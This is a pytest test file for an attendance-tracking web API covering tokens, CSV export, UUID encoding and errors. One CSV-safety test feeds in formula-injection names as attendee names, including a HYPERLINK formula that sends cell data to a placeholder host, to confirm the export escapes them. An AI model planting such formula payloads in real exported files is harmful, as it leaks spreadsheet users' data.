"""Read API (issue 4): the attendance commands' answers over HTTP, bearer token required."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from urllib.parse import quote

import pytest

from integrations.web import create_app
from tests.attendance_support import Scenario, cli
from tests.conftest import API_TOKEN, make_config, post_event
from tests.test_attendance_scenarios import (
    MEETING,
    MEETING_REPORT,
    MEETING_UUID,
    WEBINAR,
    WEBINAR_REGISTRANTS,
    WEBINAR_REPORT,
    WEBINAR_UUID,
    meeting_webhooks,
    webinar_webhooks,
)

AUTH = {"Authorization": f"Bearer {API_TOKEN}"}


def get(client, url, **headers):
    return client.get(url, headers={**AUTH, **headers})


def without_clock(answer: dict) -> dict:
    answer = json.loads(json.dumps(answer))
    answer["meeting"].pop("as_of")
    return answer


@pytest.fixture
def webinar(client, config):
    sc = Scenario(client, config, meeting_id=WEBINAR, uuid=WEBINAR_UUID, kind="webinar")
    webinar_webhooks(sc)
    sc.report(WEBINAR_REPORT, registrants=WEBINAR_REGISTRANTS)
    return sc


def test_api_is_off_without_a_token_and_says_so(tmp_path):
    config = make_config(tmp_path, API_TOKEN="")
    client = create_app(config).test_client()
    response = client.get(f"/api/meetings/{MEETING}/attendance", headers=AUTH)
    assert response.status_code == 503
    assert "off" in response.get_json()["message"] and "API_TOKEN" in response.get_json()["message"]
    # The webhook endpoint is unaffected.
    sc = Scenario(client, config, meeting_id=MEETING, uuid=MEETING_UUID)
    sc.joined("1", "Ann", "10:00", email="ann@x.org")


@pytest.mark.parametrize("header", [None, "Bearer wrong-token", f"Basic {API_TOKEN}", "Bearer"])
def test_wrong_or_missing_token_gets_401(client, header):
    headers = {"Authorization": header} if header else {}
    for url in ("/api/meetings", f"/api/meetings/{MEETING}/summary"):
        response = client.get(url, headers=headers)
        assert response.status_code == 401 and response.get_json()["error"] == "unauthorized"


def test_attendance_over_http_is_what_the_cli_prints(webinar, client, config):
    for query in ("", "?min_minutes=30&include_absent=1", "?min_percent=50"):
        response = get(client, f"/api/meetings/{WEBINAR}/attendance{query}")
        assert response.status_code == 200 and response.mimetype == "application/json"
        args = {
            "": [],
            "?min_minutes=30&include_absent=1": ["--min-minutes", "30", "--include-absent"],
            "?min_percent=50": ["--min-percent", "50"],
        }[query]
        assert without_clock(response.get_json()) == without_clock(cli(config, "attendance", WEBINAR, *args))
    summary = get(client, f"/api/meetings/{WEBINAR}/summary?min_minutes=45").get_json()
    assert without_clock(summary) == without_clock(cli(config, "summary", WEBINAR, "--min-minutes", "45"))
    timeline = get(client, f"/api/meetings/{WEBINAR}/timeline?step=600").get_json()
    assert without_clock(timeline) == without_clock(cli(config, "timeline", WEBINAR, "--step", "600"))
    # Ivy and Lea at 10:00, the guest from 10:10, Lea gone at 10:30, the guest at 10:40, Ivy at 10:50.
    assert [p["present"] for p in timeline["points"]] == [2, 3, 3, 2, 1, 0, 0]
    meetings = get(client, "/api/meetings").get_json()["meetings"]
    assert meetings == cli(config, "meetings")["meetings"]


@pytest.mark.parametrize("uuid", [WEBINAR_UUID, MEETING_UUID], ids=["starts-with-slash", "double-slash-plus-equals"])
def test_instance_uuids_are_accepted_percent_encoded(client, config, uuid):
    kind = "webinar" if uuid == WEBINAR_UUID else "meeting"
    sc = Scenario(client, config, meeting_id=WEBINAR if kind == "webinar" else MEETING, uuid=uuid, kind=kind)
    sc.joined("1", "Ann", "10:00", email="ann@x.org")
    sc.left("1", "Ann", "10:30", email="ann@x.org")
    once = quote(uuid, safe="")
    for path in (once, quote(once, safe="")):  # once, and double-encoded as Zoom's own API wants
        response = get(client, f"/api/meetings/{path}/attendance")
        assert response.status_code == 200, response.get_data(as_text=True)
        assert response.get_json()["meeting"]["instance_uuid"] == uuid
        assert response.get_json()["attendees"][0]["attended_seconds"] == 1800
    by_query = get(client, f"/api/meetings/{sc.meeting_id}/summary?instance={once}")
    assert by_query.get_json()["meeting"]["instance_uuid"] == uuid


def test_csv_is_spreadsheet_safe(client, config):
    sc = Scenario(client, config, meeting_id=MEETING, uuid=MEETING_UUID)
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1 555 0100", "-2+3", "@SUM(1)", "\tTab", "\rCR"]
    for i, name in enumerate(hostile):
        sc.joined(str(i), name, "10:00")
        sc.left(str(i), name, "10:30")
    response = get(client, f"/api/meetings/{MEETING}/attendance?format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert sorted(r["name"] for r in rows) == sorted("'" + n for n in hostile)
    assert all(r["person_key"].startswith("name:") for r in rows)
    from_cli = cli(config, "attendance", MEETING, "--format", "csv")
    assert sorted(r["name"] for r in csv.DictReader(io.StringIO(from_cli))) == sorted("'" + n for n in hostile)


def test_summary_and_timeline_as_csv(client, config):
    sc = Scenario(client, config, meeting_id=MEETING, uuid=MEETING_UUID)
    meeting_webhooks(sc)
    sc.report(MEETING_REPORT)
    (row,) = csv.DictReader(
        io.StringIO(get(client, f"/api/meetings/{MEETING}/summary?format=csv").get_data(as_text=True))
    )
    assert (row["unique_attendees"], row["peak_concurrent"], row["report_complete"]) == ("9", "8", "true")
    assert (row["only_in_webhooks"], row["only_in_report"], row["durations_differ"]) == ("1", "1", "1")
    text = get(client, f"/api/meetings/{MEETING}/timeline?format=csv&step=1800").get_data(as_text=True)
    assert text.splitlines() == [
        "time,present",
        "2024-05-01T10:00:00Z,7",
        "2024-05-01T10:30:00Z,5",
        "2024-05-01T11:00:00Z,0",
    ]


def test_errors_are_json_with_a_message(client, config):
    post_event(client, {"event": "meeting.started", "payload": {"object": {"id": MEETING, "uuid": "u=="}}})
    assert get(client, "/api/meetings/12345/attendance").status_code == 404
    assert get(client, "/api/meetings/u%3D%3D/nothing").status_code == 404
    bad = get(client, f"/api/meetings/{MEETING}/attendance?min_minutes=5&min_percent=5")
    assert bad.status_code == 400 and "not both" in bad.get_json()["message"]
    assert get(client, f"/api/meetings/{MEETING}/timeline?step=0").status_code == 400
    assert get(client, f"/api/meetings/{MEETING}/attendance?format=xml").status_code == 400


def test_a_live_instance_is_served_from_a_refresh_seconds_old(client, config):
    start = datetime.now(UTC) - timedelta(minutes=10)
    sc = Scenario(client, config, meeting_id=MEETING, uuid="live==", day=start.strftime("%Y-%m-%d"))
    sc.started(start.strftime("%H:%M:%S"))
    sc.joined("1", "Ann", start.strftime("%H:%M:%S"), email="ann@x.org")
    first = get(client, f"/api/meetings/{MEETING}/attendance").get_json()
    assert [a["in_meeting"] for a in first["attendees"]] == [True] and first["meeting"]["computed_at"]
    sc.joined("2", "Bob", start.strftime("%H:%M:%S"), email="bob@x.org")
    again = get(client, f"/api/meetings/{MEETING}/attendance").get_json()
    # Within API_LIVE_MAX_AGE the worker's last refresh is served; the open session still runs to now.
    assert len(again["attendees"]) == 1 and again["meeting"]["computed_at"] == first["meeting"]["computed_at"]
    assert again["attendees"][0]["attended_seconds"] >= first["attendees"][0]["attended_seconds"]
    assert len(cli(config, "attendance", MEETING)["attendees"]) == 2  # the CLI always brings it up to date
    assert len(get(client, f"/api/meetings/{MEETING}/attendance").get_json()["attendees"]) == 2
